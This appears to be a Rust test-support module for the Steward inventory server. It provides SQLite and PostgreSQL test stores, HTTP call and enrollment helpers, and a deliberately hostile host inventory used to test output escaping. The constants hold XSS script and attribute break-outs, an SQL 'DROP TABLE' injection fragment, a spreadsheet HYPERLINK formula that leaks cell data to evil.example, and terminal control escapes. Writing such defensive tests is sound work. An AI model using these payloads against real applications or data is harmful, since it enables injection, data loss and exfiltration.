//! What several server test binaries share: stores on SQLite and (when
//! `STEWARD_TEST_POSTGRES_URL` is set) on a fresh PostgreSQL database, and the hostile
//! inventory whose every string tries to break out of where it is shown.

#![allow(
    dead_code,
    reason = "each test binary uses a different part of this module"
)]

use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use jiff::Timestamp;
use serde_json::Value;
use steward_api::access::Role;
use steward_api::agent::{AgentInfo, InventoryDocument};
use steward_api::agent::{ENROLL_PATH, EnrollResponse, INVENTORY_PATH};
use steward_core::inventory::{
    Dmi, HostFacts, InstalledPackage, Inventory, NetworkInterface, OsRelease, PackageSource,
};
use steward_server::secrets;
use steward_store::{Actor, NewApiToken};
use steward_store::{SqlStore, Store};
use tower::ServiceExt;

/// A store for one test, and what must be cleaned up after it.
pub struct TestStore {
    /// The store.
    pub store: Arc<dyn Store>,
    /// `sqlite` or `postgres`.
    pub backend: &'static str,
    _dir: Option<tempfile::TempDir>,
    drop_database: Option<(String, String)>,
}

impl TestStore {
    /// Drops the PostgreSQL database, if this store had one.
    pub async fn cleanup(self) {
        let Some((admin_url, database)) = self.drop_database else {
            return;
        };
        drop(self.store);
        let admin = sqlx::AnyPool::connect(&admin_url).await.expect("connect");
        let drop = format!("DROP DATABASE {database} WITH (FORCE)");
        sqlx::query(sqlx::AssertSqlSafe(drop))
            .execute(&admin)
            .await
            .expect("drop database");
        admin.close().await;
    }
}

/// A store on SQLite in a temporary directory.
pub async fn sqlite() -> TestStore {
    let dir = tempfile::tempdir().expect("temporary directory");
    let store = SqlStore::open_data_dir(dir.path())
        .await
        .expect("open sqlite");
    TestStore {
        store: Arc::new(store),
        backend: "sqlite",
        _dir: Some(dir),
        drop_database: None,
    }
}

/// A store on a new PostgreSQL database, when `STEWARD_TEST_POSTGRES_URL` is set.
pub async fn postgres(test: &str) -> Option<TestStore> {
    let Ok(admin_url) = std::env::var("STEWARD_TEST_POSTGRES_URL") else {
        eprintln!("{test}: PostgreSQL skipped, STEWARD_TEST_POSTGRES_URL is not set");
        return None;
    };
    sqlx::any::install_default_drivers();
    let database = format!("steward_test_{}", uuid::Uuid::now_v7().simple());
    let admin = sqlx::AnyPool::connect(&admin_url).await.expect("connect");
    let create = format!("CREATE DATABASE {database}");
    sqlx::query(sqlx::AssertSqlSafe(create))
        .execute(&admin)
        .await
        .expect("create database");
    admin.close().await;
    let base = admin_url
        .rsplit_once('/')
        .map_or(admin_url.as_str(), |(base, _)| base);
    let store = SqlStore::connect(&format!("{base}/{database}"))
        .await
        .expect("open postgres");
    Some(TestStore {
        store: Arc::new(store),
        backend: "postgres",
        _dir: None,
        drop_database: Some((admin_url, database)),
    })
}

/// Every store the tests run on here: SQLite, and PostgreSQL when configured.
pub async fn stores(test: &str) -> Vec<TestStore> {
    let mut stores = vec![sqlite().await];
    stores.extend(postgres(test).await);
    stores
}

/// A script that, should it ever run, marks the page: the browser test looks for both marks.
pub const SCRIPT: &str = "<script>window.__stewardPwned='script';document.title='pwned'</script>";
/// An element whose event handler marks the page should the markup ever be parsed.
pub const HANDLER: &str = "\"><img src=x onerror=\"window.__stewardPwned='onerror'\">";
/// An attribute break-out with single quotes.
pub const ATTRIBUTE: &str = "' autofocus onfocus='window.__stewardPwned=\"onfocus\"' x='";
/// An SQL fragment.
pub const SQL: &str = "x'); DROP TABLE hosts; -- \" OR 1=1";
/// A spreadsheet formula, which a CSV export must neutralise.
pub const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
/// Control characters other than NUL, a terminal escape and a bidirectional override.
pub const CONTROLS: &str = "ctl\u{1}\u{7}\u{8}\r\u{1b}[31mred\u{7f}\u{202e}txt";

/// The 100 kB string: a payload repeated past 100,000 bytes.
pub fn huge() -> String {
    let mut s = String::with_capacity(101_000);
    while s.len() < 100_000 {
        s.push_str("<b onmouseover=alert(1)>big</b>");
    }
    s
}

/// The hostile inventory: host name, facts and package names and versions all carry
/// payloads; the DMI UUID identifies the host.
pub fn hostile_inventory(uuid: &str) -> Inventory {
    let facts = HostFacts {
        hostname: format!("web{SCRIPT}"),
        fqdn: Some(format!("{HANDLER}.example.org")),
        os: OsRelease {
            id: Some("debian".into()),
            version_id: Some("12".into()),
            name: Some(SQL.into()),
            pretty_name: Some(format!("Debian {ATTRIBUTE} {CONTROLS}")),
            ..OsRelease::default()
        },
        kernel: Some(huge()),
        arch: Some("x86_64".into()),
        dmi: Dmi {
            uuid: Some(uuid.into()),
            vendor: Some(SCRIPT.into()),
            model: Some(CONTROLS.into()),
            ..Dmi::default()
        },
        interfaces: vec![NetworkInterface {
            name: HANDLER.into(),
            mac: Some("52:54:00:12:34:56".into()),
            addresses: vec![SQL.into()],
            virtual_device: false,
        }],
        ..HostFacts::default()
    };
    let package = |name: String, version: String| InstalledPackage {
        ecosystem: "Debian".into(),
        name,
        version,
        arch: "amd64".into(),
        source_name: Some(SQL.into()),
        source_version: Some(CONTROLS.into()),
        source: PackageSource::Dpkg,
        status: "installed".into(),
    };
    Inventory {
        facts,
        packages: vec![
            package(format!("pkg{SCRIPT}"), "1.0".into()),
            package(HANDLER.into(), ATTRIBUTE.into()),
            package(SQL.into(), "2:1.0-1".into()),
            package(format!("ctl{CONTROLS}"), "1".into()),
            package("huge".into(), huge()),
            package(FORMULA.into(), "+1-1".into()),
        ],
        tags: vec![SCRIPT.into(), FORMULA.into()],
        ..Inventory::default()
    }
}

/// The hostile inventory as a complete agent document.
pub fn hostile_document(uuid: &str) -> InventoryDocument {
    InventoryDocument::complete(
        format!("hostile-{}", uuid::Uuid::now_v7()),
        Timestamp::now(),
        AgentInfo {
            name: "test".into(),
            version: "0".into(),
        },
        hostile_inventory(uuid),
    )
}

/// A response, read whole.
pub struct Answer {
    /// Status.
    pub status: StatusCode,
    /// Headers.
    pub headers: axum::http::HeaderMap,
    /// Body text.
    pub body: String,
}

impl Answer {
    /// The body as JSON.
    pub fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap()
    }
}

/// Calls the application in-process, with a bearer token unless `token` is empty.
pub async fn call(
    app: &Router,
    method: Method,
    uri: &str,
    token: &str,
    body: Option<String>,
) -> Answer {
    let mut request = Request::builder().method(method).uri(uri);
    if !token.is_empty() {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    let body = match body {
        Some(json) => {
            request = request.header("content-type", "application/json");
            Body::from(json)
        }
        None => Body::empty(),
    };
    let response = app
        .clone()
        .oneshot(request.body(body).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = axum::body::to_bytes(response.into_body(), 64 << 20)
        .await
        .unwrap();
    Answer {
        status,
        headers,
        body: String::from_utf8(bytes.to_vec()).unwrap(),
    }
}

/// A new administrator API token.
pub async fn admin_token(store: &dyn Store) -> String {
    let secret = secrets::generate(secrets::API_TOKEN_PREFIX);
    let token = NewApiToken {
        name: "safety-admin".into(),
        role: Role::Administrator,
        hash: secrets::hash(&secret),
        expires_at: None,
    };
    let actor = Actor::Cli("test".into());
    store
        .create_api_token(&token, &actor, Timestamp::now())
        .await
        .unwrap();
    secret
}

/// Enrolls an agent and returns its credential.
pub async fn enroll(app: &Router, store: &dyn Store, uuid: &str) -> String {
    let secret = secrets::generate(secrets::ENROLLMENT_PREFIX);
    let actor = Actor::Cli("test".into());
    store
        .create_enrollment_token(&secrets::hash(&secret), "safety", &actor, Timestamp::now())
        .await
        .unwrap();
    let facts = hostile_inventory(uuid).facts;
    let request = serde_json::json!({"enrollment_token": secret, "facts": facts});
    let answer = call(
        app,
        Method::POST,
        ENROLL_PATH,
        "",
        Some(request.to_string()),
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let enrolled: EnrollResponse = serde_json::from_str(&answer.body).unwrap();
    enrolled.credential
}

/// Enrolls the hostile host and submits its inventory; returns the host id.
pub async fn submit_hostile(app: &Router, store: &dyn Store) -> i64 {
    let uuid = uuid::Uuid::now_v7().to_string();
    let credential = enroll(app, store, &uuid).await;
    let body = serde_json::to_string(&hostile_document(&uuid)).expect("document");
    let answer = call(app, Method::POST, INVENTORY_PATH, &credential, Some(body)).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    answer.json()["host_id"].as_i64().expect("host id")
}
